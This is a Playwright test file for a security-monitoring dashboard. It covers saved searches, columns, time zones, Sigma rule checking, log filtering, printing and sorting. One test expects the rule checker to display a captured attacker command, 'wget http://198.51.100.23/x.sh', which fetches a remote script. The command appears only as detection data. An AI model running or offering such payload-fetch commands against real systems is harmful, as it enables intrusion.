// SPDX-License-Identifier: MIT
/** What one person sets up for himself: searches, columns, density, time zone; a rule tried, a log read, a page printed. */
import assert from "node:assert/strict";
import { test } from "node:test";
import { accessible, screenshot, until, visit } from "./harness.mjs";

const EVENTS = "/events?since=all";

test("a search is saved under a name, asked for again, and forgotten", async () => {
  const { page, end } = await visit(`${EVENTS}&q=kind:auth.attempt`, { role: "viewer" });
  await page.getByRole("gridcell", { name: "auth.attempt" }).first().waitFor();
  await page.getByRole("button", { name: "Save this search" }).click();
  const dialog = page.getByRole("dialog");
  await dialog.getByLabel("Name").fill("<b>guesses</b>");
  await dialog.getByRole("button", { name: "Save" }).click();
  const saved = page.getByRole("button", { name: "<b>guesses</b>", exact: true });
  await saved.waitFor();

  await page.goto(EVENTS); // it is kept by the browser, not by the page
  await saved.click();
  await page.waitForURL((url) => url.searchParams.get("q") === "kind:auth.attempt");
  await page.locator('button[aria-pressed="true"]', { hasText: "guesses" }).waitFor();
  await accessible(page);
  await page.getByRole("button", { name: "Forget the search <b>guesses</b>" }).click();
  await saved.waitFor({ state: "hidden" });
  await page.getByRole("button", { name: "Save this search" }).waitFor();
  await end();
});

test("a column that is left out stays left out", async () => {
  const { page, end } = await visit("/attackers?since=all", { role: "viewer" });
  const header = page.getByRole("columnheader", { name: "Score" });
  await header.waitFor();
  await page.getByRole("button", { name: "Columns" }).click();
  const menu = page.getByRole("dialog", { name: "Columns" });
  await menu.getByRole("checkbox", { name: "Score" }).uncheck();
  await header.waitFor({ state: "hidden" });
  await accessible(page);
  await page.reload();
  await page.getByRole("columnheader").first().waitFor();
  assert.equal(await header.count(), 0); // the headers are there all at once
  await page.getByRole("button", { name: "Columns" }).click();
  await menu.getByRole("checkbox", { name: "Score" }).check();
  await header.waitFor();
  await end();
});

test("rows are denser and times of another zone at once, and after a reload", async () => {
  const { page, end } = await visit(EVENTS, { role: "viewer" });
  const time = page.locator("time[title]").first();
  await time.waitFor();
  const height = async () => (await page.getByRole("row").nth(1).boundingBox()).height;
  const before = await until(height);
  await page.getByRole("button", { name: "Account and appearance" }).click();
  await page.getByRole("radio", { name: "Dense" }).press("Space");
  await page.getByLabel("Time zone").selectOption("Asia/Tokyo");
  await accessible(page);
  await page.keyboard.press("Escape");
  for (const reload of [false, true]) {
    if (reload) await page.reload();
    await page.locator('time[title*="Asia/Tokyo"]').first().waitFor();
    await until(async () => (await height()) < before);
    const tokyo = page.locator('time[title*="Asia/Tokyo"]').first();
    const [shown, exact] = await tokyo.evaluate((one) => [one.title, one.dateTime]);
    // Nine hours before UTC, without summer time.
    const there = new Date(Date.parse(exact.replace(/(\.\d{3})\d+/, "$1")) + 540 * 60_000);
    assert.equal(shown.slice(0, 19), there.toISOString().slice(0, 19).replace("T", " "));
  }
  await screenshot(page, "events-dense");
  await end();
});

test("a rule is checked: what is wrong with it, then what it would have found", async () => {
  const { page, end } = await visit("/rules?tab=editor", { role: "analyst" });
  const rule = page.getByLabel("Rule (Sigma, YAML)");
  const good = await rule.inputValue();
  await rule.fill(good.replace("condition: selection", "condition: nothing"));
  await page.getByRole("button", { name: "Check", exact: true }).click();
  await page.getByText("It cannot be used").waitFor();
  await page
    .getByText(/^Line \d+: ./)
    .first()
    .waitFor();
  await rule.fill(good);
  await page.getByRole("button", { name: "Check", exact: true }).click();
  await page.getByText("The rule is good").waitFor();
  await page.getByText(/^It finds [1-9]\d* of the newest [1-9]\d* events/).waitFor();
  await page.getByText("wget http://198.51.100.23/x.sh").first().waitFor();
  await accessible(page);
  await end();
});

test("the end of a worker's log is narrowed by words and by level", async () => {
  const { page, end } = await visit("/workers/profiler", { role: "analyst" });
  const log = page.getByRole("log", { name: "Log" });
  await log.locator("[data-level]").first().waitFor();
  await page.getByRole("checkbox", { name: "Follow" }).uncheck();
  const messages = () => log.locator("[data-level] span").allInnerTexts();
  const [first] = await messages();
  await page.getByPlaceholder("Only lines with …").fill(first);
  await until(async () => {
    const found = await messages();
    return found.length > 0 && found.every((one) => one.includes(first));
  });
  await page.getByPlaceholder("Only lines with …").fill("no line says this");
  await until(async () => (await messages()).length === 0);
  await page.getByPlaceholder("Only lines with …").fill("");
  await until(async () => (await messages()).length > 0);
  await page.getByLabel("Level").selectOption("error");
  await until(async () => {
    const levels = await log.locator("[data-level]").evaluateAll((lines) => lines.map((one) => one.dataset.level));
    return levels.every((one) => ["error", "critical"].includes(one));
  });
  await accessible(page);
  await end();
});

test("a printed page is its content, dark on white", async () => {
  const { page, end } = await visit("/attackers?since=all", { role: "viewer", theme: "dark" });
  await page.getByRole("row").nth(1).waitFor();
  const back = () => page.evaluate(() => getComputedStyle(document.documentElement).backgroundColor);
  const dark = await back();
  await page.emulateMedia({ media: "print" });
  await page.evaluate(() => dispatchEvent(new Event("beforeprint"))); // a browser says so before it prints
  await page.getByRole("navigation").first().waitFor({ state: "hidden" });
  await page.getByRole("row").nth(1).waitFor();
  await page.locator('html[data-theme="light"]').waitFor();
  await until(async () => (await back()) !== dark);
  await page.getByRole("button", { name: "Account and appearance" }).waitFor({ state: "hidden" });
  const paper = await page.pdf({ format: "A4" });
  assert.equal(paper.subarray(0, 5).toString(), "%PDF-");
  await page.emulateMedia({ media: "screen" });
  await page.evaluate(() => dispatchEvent(new Event("afterprint")));
  await page.getByRole("navigation").first().waitFor();
  await until(async () => (await back()) === dark);
  await end();
});

test("a printed incident has no fields to fill in", async () => {
  const { page, end } = await visit("/incidents", { role: "analyst" });
  await page.getByRole("row").nth(1).waitFor();
  await page.keyboard.press("j");
  await page.keyboard.press("Enter");
  await page.getByLabel("Note").waitFor();
  await page.emulateMedia({ media: "print" });
  await page.getByLabel("Note").waitFor({ state: "hidden" });
  await page.getByRole("heading", { name: "Timeline" }).waitFor();
  await end();
});

test("lists are sorted on a narrow screen, too: events oldest first", async () => {
  const { page, end } = await visit("/events", { role: "viewer", width: 360 });
  await page.locator("[data-row]").first().waitFor();
  const newest = await page.locator("[data-row]").first().innerText();
  const sort = page.getByRole("button", { name: "Time", exact: true });
  await sort.waitFor();
  const { width, height } = await sort.boundingBox();
  assert.ok(width > 20 && height > 10, `${width} x ${height}`);
  await sort.press("Enter");
  await page.waitForURL(/direction=asc/);
  await page.locator('[role="columnheader"][aria-sort="ascending"]').waitFor();
  await page.waitForFunction((before) => document.querySelector("[data-row]")?.innerText !== before, newest);
  await until(async () => {
    const shown = page.locator("[data-row] time");
    const times = await shown.evaluateAll((all) => all.map((one) => Date.parse(one.dateTime)));
    assert.ok(times.length > 1);
    assert.deepEqual(
      times,
      times.toSorted((one, other) => one - other),
    );
    return true;
  });
  await accessible(page);
  await end();
});

test("an address without a page says so, beside the navigation", async () => {
  const { page, end } = await visit("/no/such/page", { role: "viewer" });
  await page.getByRole("heading", { level: 1, name: "There is no page at this address" }).waitFor();
  await page.getByRole("navigation").getByRole("link", { name: "Attackers" }).click();
  await page.getByRole("heading", { level: 1, name: "Attackers" }).waitFor();
  await end();
});

test("a time that is none is named where the events would be", async () => {
  const refused = [/status of 422 .*\/events/];
  const { page, end } = await visit("/events?since=nonsense", { role: "viewer", expected: refused });
  await page.getByText(/'nonsense' is not a time/).waitFor();
  assert.equal(await page.getByText("The query cannot be read").count(), 0);
  await page.goto("/events?since=24h&q=kind:");
  await page.getByText("a value is missing").waitFor();
  await page.getByText("The query cannot be read").waitFor();
  await end();
});
